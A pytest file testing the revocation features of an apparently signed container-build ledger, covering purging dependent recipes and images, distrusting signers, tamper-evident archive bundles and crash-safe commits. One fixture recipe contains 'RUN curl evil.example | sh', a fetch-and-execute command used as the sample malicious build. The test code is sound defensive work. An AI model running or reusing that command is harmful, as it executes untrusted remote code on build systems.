from __future__ import annotations

import json
import os
import random
import shutil
from pathlib import Path

import pytest

from spock import Ledger, MockEngine, builder, recipe, revocation
from spock.errors import (
    AlreadyDistrustedError,
    NotFoundError,
    PurgedError,
    SpockError,
    TamperError,
    UntrustedSignerError,
)
from spock.records import LedgerEvent
from tests.conftest import ROOT_TEXT, craft_text, register_and_build


def live_sets(ledger):
    recipes = {h for h, r in ledger.recipes.items() if r.status == "live"}
    images = {i for i, m in ledger.images.items() if m.status == "live"}
    return recipes, images


def oracle_closure(ledger, node_type: str, node_id: str):
    """Brute-force reachability over raw parent links, independent of the
    traversal the revocation module uses."""
    children_of_image: dict[str, list[str]] = {}
    for rec in ledger.recipes.values():
        if rec.parent_image_id:
            children_of_image.setdefault(rec.parent_image_id, []).append(rec.recipe_hash)
    images_of: dict[str, list[str]] = {}
    for img in ledger.images.values():
        images_of.setdefault(img.recipe_hash, []).append(img.image_id)
    live_recipes, live_images = live_sets(ledger)
    rec_set: set[str] = set()
    img_set: set[str] = set()
    stack = [(node_type, node_id)]
    while stack:
        node_kind, nid = stack.pop()
        if node_kind == "recipe":
            if nid not in live_recipes or nid in rec_set:
                continue
            rec_set.add(nid)
            stack.extend(("image", i) for i in images_of.get(nid, []))
        else:
            if nid not in live_images or nid in img_set:
                continue
            img_set.add(nid)
            stack.extend(("recipe", h) for h in children_of_image.get(nid, []))
    return rec_set, img_set


def test_remove_malicious_child_leaves_parent_untouched(fig_tree):
    """The classic incident: a dependent build turns out to be malicious
    (fixture hash prefix 80b6e) and is excised without harming its
    ancestors."""
    ledger = fig_tree["ledger"]
    signer, private = fig_tree["signer"], fig_tree["private"]
    bad_text = craft_text(
        f"FROM trusted:{fig_tree['root_image'].image_id}\nRUN curl evil.example | sh\n",
        "80b6e",
        set(),
    )
    bad = recipe.register_child(ledger, bad_text, signer, private)
    assert bad.recipe_hash.startswith("80b6e")
    bad_image = builder.build(ledger, bad.recipe_hash, MockEngine(), signer, private)

    bundle = revocation.remove(ledger, bad.recipe_hash, "malicious install")
    assert [r.recipe_hash for r in bundle.removed_recipes] == [bad.recipe_hash]
    assert [i.image_id for i in bundle.removed_images] == [bad_image.image_id]
    assert ledger.get_recipe(bad.recipe_hash).status == "purged"
    assert ledger.get_image(bad_image.image_id).status == "purged"
    for untouched in ("root", "mid", "leaf"):
        assert ledger.get_recipe(fig_tree[untouched].recipe_hash).status == "live"


def test_remove_root_purges_every_node(fig_tree):
    ledger = fig_tree["ledger"]
    live_recipes_before, live_images_before = live_sets(ledger)
    bundle = revocation.remove(ledger, fig_tree["root"].recipe_hash, "root compromised")
    assert all(r.status == "purged" for r in ledger.recipes.values())
    assert all(i.status == "purged" for i in ledger.images.values())
    assert {r.recipe_hash for r in bundle.removed_recipes} == live_recipes_before
    assert {i.image_id for i in bundle.removed_images} == live_images_before


def test_remove_conservation(fig_tree):
    ledger = fig_tree["ledger"]
    recipes_before, images_before = live_sets(ledger)
    bundle = revocation.remove(ledger, fig_tree["mid"].recipe_hash, "mid bad")
    recipes_after, images_after = live_sets(ledger)
    bundle_recipes = {r.recipe_hash for r in bundle.removed_recipes}
    bundle_images = {i.image_id for i in bundle.removed_images}
    assert recipes_after | bundle_recipes == recipes_before
    assert recipes_after & bundle_recipes == set()
    assert images_after | bundle_images == images_before
    assert images_after & bundle_images == set()


def test_remove_leaf_purges_exactly_one_pair(fig_tree):
    ledger = fig_tree["ledger"]
    bundle = revocation.remove(ledger, fig_tree["leaf"].recipe_hash, "leaf bad")
    assert len(bundle.removed_recipes) == 1
    assert len(bundle.removed_images) == 1


def test_remove_image_spares_its_recipe(fig_tree):
    ledger = fig_tree["ledger"]
    bundle = revocation.remove(ledger, fig_tree["mid_image"].image_id, "rebuild wanted")
    assert ledger.get_recipe(fig_tree["mid"].recipe_hash).status == "live"
    assert ledger.get_image(fig_tree["mid_image"].image_id).status == "purged"
    # the leaf depended on that image, so it went too
    assert ledger.get_recipe(fig_tree["leaf"].recipe_hash).status == "purged"
    assert {r.recipe_hash for r in bundle.removed_recipes} == {fig_tree["leaf"].recipe_hash}


def test_remove_unknown_and_already_purged(fig_tree):
    ledger = fig_tree["ledger"]
    with pytest.raises(NotFoundError):
        revocation.remove(ledger, "f" * 64, "nope")
    revocation.remove(ledger, fig_tree["leaf"].recipe_hash, "bad")
    with pytest.raises(PurgedError):
        revocation.remove(ledger, fig_tree["leaf"].recipe_hash, "again")


def test_purged_hashes_barred_forever(fig_tree):
    ledger = fig_tree["ledger"]
    signer, private = fig_tree["signer"], fig_tree["private"]
    revocation.remove(ledger, fig_tree["root"].recipe_hash, "everything must go")
    for rec in (fig_tree["root"], fig_tree["mid"], fig_tree["leaf"]):
        with pytest.raises(PurgedError):
            builder.build(ledger, rec.recipe_hash, MockEngine(), signer, private)
    with pytest.raises(PurgedError):
        recipe.register_root(ledger, fig_tree["root"].text, signer, private)


def test_distrust_purges_only_that_signers_subtree(trusted_ledger, second_keypair):
    ledger, alice, alice_key = trusted_ledger
    bob_pub, bob_key = second_keypair
    ledger.add_entity("bob", bob_pub)
    engine = MockEngine()

    _, root_image = register_and_build(ledger, ROOT_TEXT, alice, alice_key)
    bob_child = recipe.register_child(
        ledger, f"FROM trusted:{root_image.image_id}\nRUN echo bob\n", "bob", bob_key
    )
    bob_image = builder.build(ledger, bob_child.recipe_hash, engine, "bob", bob_key)
    bob_grandchild = recipe.register_child(
        ledger, f"FROM trusted:{bob_image.image_id}\nRUN echo deeper\n", alice, alice_key
    )
    alice_child = recipe.register_child(
        ledger, f"FROM trusted:{root_image.image_id}\nRUN echo alice\n", alice, alice_key
    )

    bundle = revocation.distrust(ledger, "bob", "bob went rogue")
    assert ledger.get_entity("bob").status == "distrusted"
    # bob's child, its image, and the dependent grandchild are gone,
    # even though the grandchild was signed by alice
    assert ledger.get_recipe(bob_child.recipe_hash).status == "purged"
    assert ledger.get_image(bob_image.image_id).status == "purged"
    assert ledger.get_recipe(bob_grandchild.recipe_hash).status == "purged"
    # alice's parallel branch and the root are untouched
    assert ledger.get_recipe(alice_child.recipe_hash).status == "live"
    assert ledger.get_image(root_image.image_id).status == "live"
    assert {r.recipe_hash for r in bundle.removed_recipes} == {
        bob_child.recipe_hash,
        bob_grandchild.recipe_hash,
    }


def test_distrust_entity_with_no_records(trusted_ledger, second_keypair):
    ledger, _, _ = trusted_ledger
    ledger.add_entity("bob", second_keypair[0])
    bundle = revocation.distrust(ledger, "bob", "never used")
    assert bundle.removed_recipes == []
    assert bundle.removed_images == []
    assert ledger.get_entity("bob").status == "distrusted"


def test_distrusted_entity_cannot_register(trusted_ledger, second_keypair):
    ledger, _, _ = trusted_ledger
    bob_pub, bob_key = second_keypair
    ledger.add_entity("bob", bob_pub)
    revocation.distrust(ledger, "bob", "gone")
    with pytest.raises(UntrustedSignerError):
        recipe.register_root(ledger, ROOT_TEXT, "bob", bob_key)


def test_distrust_unknown_and_repeated(trusted_ledger):
    ledger, alice, _ = trusted_ledger
    with pytest.raises(NotFoundError):
        revocation.distrust(ledger, "ghost", "x")
    revocation.distrust(ledger, alice, "first")
    with pytest.raises(AlreadyDistrustedError):
        revocation.distrust(ledger, alice, "second")


def test_archive_bundle_layout_and_reload(fig_tree):
    ledger = fig_tree["ledger"]
    bundle = revocation.remove(ledger, fig_tree["mid"].recipe_hash, "audit me")
    bundle_dir = ledger.archive_root / bundle.bundle_id
    manifest = json.loads((bundle_dir / "manifest.json").read_text())
    assert set(manifest) == {"bundle_id", "created_at", "reason", "items"}
    assert manifest["reason"] == "audit me"
    for item in manifest["items"]:
        assert set(item) == {"type", "id", "digest"}
        assert (bundle_dir / f"{item['type']}-{item['id']}.json").is_file()
    listed = revocation.list_archives(ledger)
    assert [b["bundle_id"] for b in listed] == [bundle.bundle_id]
    again = revocation.open_archive(ledger, bundle.bundle_id)
    assert {r.recipe_hash for r in again.removed_recipes} == {
        r.recipe_hash for r in bundle.removed_recipes
    }


def test_archived_signatures_still_verify(fig_tree):
    from spock import crypto

    ledger = fig_tree["ledger"]
    bundle = revocation.remove(ledger, fig_tree["root"].recipe_hash, "verify later")
    key = ledger.get_entity(fig_tree["signer"]).public_key
    for rec in bundle.removed_recipes:
        assert crypto.verify(rec.content, rec.signature, key)
    for img in bundle.removed_images:
        assert crypto.verify(img.signed_bytes(), img.signature, key)


def test_open_archive_unknown_bundle(fig_tree):
    with pytest.raises(NotFoundError):
        revocation.open_archive(fig_tree["ledger"], "f" * 64)


def test_open_archive_detects_manifest_tamper(fig_tree):
    ledger = fig_tree["ledger"]
    bundle = revocation.remove(ledger, fig_tree["leaf"].recipe_hash, "bad")
    manifest_path = ledger.archive_root / bundle.bundle_id / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["reason"] = "totally benign"
    manifest_path.write_text(json.dumps(manifest))
    with pytest.raises(TamperError):
        revocation.open_archive(ledger, bundle.bundle_id)


def test_open_archive_detects_item_tamper(fig_tree):
    ledger = fig_tree["ledger"]
    bundle = revocation.remove(ledger, fig_tree["leaf"].recipe_hash, "bad")
    item = ledger.archive_root / bundle.bundle_id / f"recipe-{fig_tree['leaf'].recipe_hash}.json"
    data = bytearray(item.read_bytes())
    data[10] ^= 0x01
    item.write_bytes(bytes(data))
    with pytest.raises(TamperError):
        revocation.open_archive(ledger, bundle.bundle_id)


def test_validate_detects_missing_bundle(fig_tree):
    ledger = fig_tree["ledger"]
    bundle = revocation.remove(ledger, fig_tree["leaf"].recipe_hash, "bad")
    shutil.rmtree(ledger.archive_root / bundle.bundle_id)
    report = ledger.validate_all()
    assert any(e.check == "bundle-present" and not e.ok for e in report.entries)


# ----------------------------------------------------------------------
# closure correctness against the independent oracle


def _random_forest(tmp_path, rng: random.Random, trial: int, keypair):
    ledger = Ledger.init(tmp_path / f"forest-{trial}", sync=False)
    public, private = keypair
    ledger.add_entity("alice", public)
    engine = MockEngine()
    images = []
    n_ops = rng.randrange(4, 10)
    for i in range(n_ops):
        if not images or rng.random() < 0.35:
            rec = recipe.register_root(
                ledger, f"FROM base{trial}-{i}\nRUN echo {i}\n", "alice", private
            )
        else:
            parent = rng.choice(images)
            rec = recipe.register_child(
                ledger,
                f"FROM trusted:{parent.image_id}\nRUN echo {i}\n",
                "alice",
                private,
            )
        if rng.random() < 0.85:
            images.append(builder.build(ledger, rec.recipe_hash, engine, "alice", private))
    return ledger


def test_remove_closure_matches_oracle_on_random_forests(tmp_path, keypair):
    from spock import provenance

    rng = random.Random(2024)
    for trial in range(200):
        ledger = _random_forest(tmp_path, rng, trial, keypair)
        candidates = [("recipe", h) for h, r in ledger.recipes.items() if r.status == "live"]
        candidates += [("image", i) for i, m in ledger.images.items() if m.status == "live"]
        if not candidates:
            continue
        node_type, node_id = rng.choice(candidates)
        want_recipes, want_images = oracle_closure(ledger, node_type, node_id)
        # cross-module agreement: the provenance query and the purge must
        # see the same dependent set
        dependents = provenance.descendants(ledger, node_id)
        expected = dependents | ({node_id} if node_type == "recipe" else set())
        bundle = revocation.remove(ledger, node_id, "trial")
        got_recipes = {r.recipe_hash for r in bundle.removed_recipes}
        assert got_recipes == want_recipes
        assert got_recipes == expected
        assert {i.image_id for i in bundle.removed_images} == want_images
        assert ledger.check_integrity() == []
        ledger.close()


# ----------------------------------------------------------------------
# atomicity under crash injection


def test_crash_between_bundle_write_and_commit_recovers_pre_remove(fig_tree, monkeypatch):
    ledger = fig_tree["ledger"]
    recipes_before, images_before = live_sets(ledger)
    raw_before = ledger.log_path.read_bytes()

    real_append = Ledger.append

    def crashing_append(self, record):
        if isinstance(record, LedgerEvent) and record.event == "remove":
            raise SpockError("injected crash before status commit")
        return real_append(self, record)

    monkeypatch.setattr(Ledger, "append", crashing_append)
    with pytest.raises(SpockError):
        revocation.remove(ledger, fig_tree["root"].recipe_hash, "crash test")
    monkeypatch.setattr(Ledger, "append", real_append)

    # bundle directory may exist as an orphan, but the ledger recovered
    # to the exact pre-remove state
    assert ledger.log_path.read_bytes() == raw_before
    reopened = Ledger.open(ledger.root)
    assert live_sets(reopened) == (recipes_before, images_before)
    assert reopened.validate_all().ok
    assert revocation.list_archives(reopened) == []

    # and the same remove can then run to completion
    bundle = revocation.remove(reopened, fig_tree["root"].recipe_hash, "crash test")
    assert live_sets(reopened) == (set(), set())
    assert {r.recipe_hash for r in bundle.removed_recipes} == recipes_before


def test_crash_torn_event_line_recovers_pre_remove(fig_tree):
    ledger = fig_tree["ledger"]
    recipes_before, images_before = live_sets(ledger)
    revocation.remove(ledger, fig_tree["root"].recipe_hash, "to be torn")
    # tear the final (event) line mid-way, simulating a crash during append
    raw = ledger.log_path.read_bytes()
    lines = raw.splitlines(keepends=True)
    torn = b"".join(lines[:-1]) + lines[-1][: len(lines[-1]) // 2]
    ledger.log_path.write_bytes(torn)
    reopened = Ledger.open(ledger.root)
    assert live_sets(reopened) == (recipes_before, images_before)
    assert reopened.validate_all().ok


def test_remove_syncs_bundle_and_archive_directories_before_commit(fig_tree, monkeypatch):
    ledger = fig_tree["ledger"]
    ledger.sync = True
    opened: dict[int, Path] = {}
    trail: list[object] = []
    real_open, real_fsync, real_append = os.open, os.fsync, Ledger.append

    def recording_open(path, flags, *args, **kwargs):
        fd = real_open(path, flags, *args, **kwargs)
        opened[fd] = Path(path)
        return fd

    def recording_fsync(fd):
        trail.append(opened.pop(fd, None))
        return real_fsync(fd)

    def recording_append(self, record):
        trail.append("append")
        return real_append(self, record)

    monkeypatch.setattr(os, "open", recording_open)
    monkeypatch.setattr(os, "fsync", recording_fsync)
    monkeypatch.setattr(Ledger, "append", recording_append)
    bundle = revocation.remove(ledger, fig_tree["leaf"].recipe_hash, "sync test")

    commit = trail.index("append")
    synced = trail[:commit]
    assert ledger.archive_root / bundle.bundle_id in synced
    assert ledger.archive_root in synced
